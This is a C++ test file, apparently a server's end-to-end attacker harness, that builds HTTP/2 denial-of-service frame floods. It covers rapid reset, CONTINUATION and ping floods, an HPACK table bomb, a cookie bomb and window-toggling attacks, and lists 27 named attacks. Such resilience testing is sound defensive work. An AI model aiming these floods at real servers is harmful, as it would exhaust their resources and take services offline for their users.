#include "tests/e2e/attacker/attack.h"
#include "tests/e2e/attacker/frames.h"

// Floods of frames that cost the sender less than the server. The numbers of repetitions make a batch of 10 to 60 KiB.
namespace attacker {
namespace {

template <typename Make>
std::string times(int count, Make make) {
    std::string bytes;
    for (int i = 0; i < count; ++i) bytes += make();
    return bytes;
}

std::string opened_post(Script& script) { return frame(kHeaders, kEndHeaders, script.next_stream(), head("/", {}, "POST")); }

std::string rapid_reset(Script& script) {
    return times(500, [&] {
        const auto stream = script.next_stream();
        return get(stream, script.path) + reset(stream);
    });
}

// Every other request is left in peace, so that the bucket of resets does not see it at once.
std::string early_resets(Script& script) {
    return times(3, [&] {
        const auto stream = script.next_stream();
        return get(stream, script.path) + (script.stream % 8 == 1 ? "" : reset(stream));
    });
}

std::string wrong_length(Script& script) {
    return times(300, [&] {
        const auto stream = script.next_stream();
        return frame(kHeaders, kEndHeaders, stream, head("/", {{"content-length", "5"}}, "POST")) +
               frame(kData, kEndStream, stream, "x");
    });
}

std::string malformed_fields(Script& script) {
    return times(400,
                 [&] { return frame(kHeaders, kEndHeaders | kEndStream, script.next_stream(), head("/", {{"Upper", "case"}})); });
}

std::string zero_window_updates(Script& script) {
    return times(300, [&] {
        const auto stream = script.next_stream();
        return frame(kHeaders, kEndHeaders, stream, head("/", {}, "POST")) + window_update(stream, 0);
    });
}

std::string unfinished_head(Script& script) { return frame(kHeaders, kEndStream, script.next_stream(), head(script.path)); }
std::string continuations(Script&) {
    return times(500, [] { return frame(kContinuation, kNone, 1, literal("x", "yz")); });
}
std::string empty_continuations(Script&) {
    return times(2'000, [] { return frame(kContinuation, kNone, 1); });
}
std::string empty_data(Script&) {
    return times(2'000, [] { return frame(kData, kNone, 1); });
}
std::string padding_alone(Script&) {
    return times(200, [] { return frame(kData, kPadded, 1, std::string(1, '\x40') + std::string(64, '\0')); });
}
std::string empty_heads(Script& script) {
    return times(2'000, [&] { return frame(kHeaders, kEndHeaders | kEndStream, script.next_stream()); });
}
std::string pings(Script&) {
    return times(2'000, [] { return frame(kPing, kNone, 0, "12345678"); });
}
std::string settings(Script&) {
    return times(2'000, [] { return frame(kSettings, kNone, 0); });
}
std::string priorities(Script& script) {
    return times(2'000, [&] { return frame(kPriority, kNone, script.next_stream(), number(0, 4) + '\x10'); });
}
std::string priority_updates(Script& script) {
    return times(1'000, [&] { return frame(kPriorityUpdate, kNone, 0, number(script.next_stream(), 4) + "u=1, i"); });
}
std::string unknown_frames(Script&) {
    return times(2'000, [] { return frame(kUnknown, kNone, 0, "?"); });
}
std::string goaways(Script&) {
    return times(1'000, [] { return frame(kGoAway, kNone, 0, number(0, 8)); });
}
std::string closed_stream(Script& script) {
    if (script.round == 0) return get(script.next_stream(), "/") + reset(1);
    return times(2'000, [] { return window_update(1, 1'000); });
}
std::string tiny_updates(Script&) {
    return times(2'000, [] { return window_update(0, 1); });
}

// One entry that fills the dynamic table, named again by one byte each: 16 KiB become 60 MB. RFC 7541 §7.3.
std::string hpack_bomb(Script& script) {
    const std::string entry = "\x40" + text("x") + text(std::string(4'000, 'y'));
    return frame(kHeaders, kEndHeaders | kEndStream, script.next_stream(), head("/") + entry) +
           frame(kHeaders, kEndHeaders | kEndStream, script.next_stream(), head("/") + std::string(16'000, '\xbe'));
}

// Crumbs of a cookie, a field each: RFC 9113 §8.2.3.
std::string cookie_bomb(Script& script) {
    const std::string crumbs = times(3'000, [] { return std::string("\x0f\x11\x01") + "c"; });  // `cookie` is 32 of the table
    return times(4, [&] { return frame(kHeaders, kEndHeaders | kEndStream, script.next_stream(), head("/") + crumbs); });
}

// A large field that comes again and again: who joins them with a new string each time keeps 100 copies per stream.
std::string joined_fields(Script& script) {
    const std::string crumbs = times(100, [] { return std::string("\x0f\x11\x01") + "c"; });
    const std::string block = head(script.path) + "\x0f\x11" + text(std::string(14'000, 'c')) + crumbs;
    return times(4, [&] { return frame(kHeaders, kEndHeaders | kEndStream, script.next_stream(), block); });
}

std::string large_fields(Script& script) {
    const std::string half = std::string("\x00", 1) + text("x") + text(std::string(15'000, 'y'));
    const auto stream = script.next_stream();
    return frame(kHeaders, kEndStream, stream, head("/") + half) + frame(kContinuation, kNone, stream, half) +
           frame(kContinuation, kEndHeaders, stream, half);
}

// Each change of the initial window is a walk over all streams.
std::string blocked_streams(Script& script) {
    return times(100, [&] { return get(script.next_stream(), script.path); });
}
std::string toggle_windows(Script&) {
    return times(500, [] {
        return frame(kSettings, kNone, 0, setting(kInitialWindow, 0)) + frame(kSettings, kNone, 0, setting(kInitialWindow, 1));
    });
}
std::string toggle_table(Script&) {
    return times(500, [] {
        return frame(kSettings, kNone, 0, setting(kHeaderTableSize, 0)) +
               frame(kSettings, kNone, 0, setting(kHeaderTableSize, 4'096));
    });
}

const std::string kClosedWindows = setting(kInitialWindow, 0);

const Attack kAttacks[] = {
    {.name = "rapid-reset", .more = rapid_reset},
    {.name = "early-resets", .more = early_resets, .pace = Milliseconds{30}},
    {.name = "provoked-length", .more = wrong_length},
    {.name = "provoked-fields", .more = malformed_fields},
    {.name = "provoked-window", .more = zero_window_updates},
    {.name = "continuations", .begin = unfinished_head, .more = continuations},
    {.name = "empty-continuations", .begin = unfinished_head, .more = empty_continuations},
    {.name = "empty-data", .begin = opened_post, .more = empty_data},
    {.name = "empty-headers", .more = empty_heads},
    {.name = "padding", .begin = opened_post, .more = padding_alone},
    {.name = "pings", .more = pings},
    {.name = "pings-unread", .more = pings, .reading = Reading::Nothing},
    {.name = "settings", .more = settings},
    {.name = "priorities", .more = priorities},
    {.name = "priority-updates", .more = priority_updates},
    {.name = "unknown-frames", .more = unknown_frames},
    {.name = "goaways", .more = goaways},
    {.name = "closed-stream", .more = closed_stream},
    {.name = "tiny-updates", .more = tiny_updates},
    {.name = "hpack-bomb", .more = hpack_bomb},
    {.name = "cookie-bomb", .more = cookie_bomb},
    {.name = "large-fields-h2", .more = large_fields},
    {.name = "toggled-windows", .begin = blocked_streams, .more = toggle_windows},
    {.name = "toggled-table", .more = toggle_table},
    {.name = "joined-fields", .more = joined_fields, .settings = kClosedWindows},
    {.name = "refused-streams", .more = blocked_streams, .settings = kClosedWindows},
    {.name = "stubborn", .more = pings, .manner = Attack::Manner::Stubborn},
};

}  // namespace

std::span<const Attack> http2_attacks() { return kAttacks; }

}  // namespace attacker
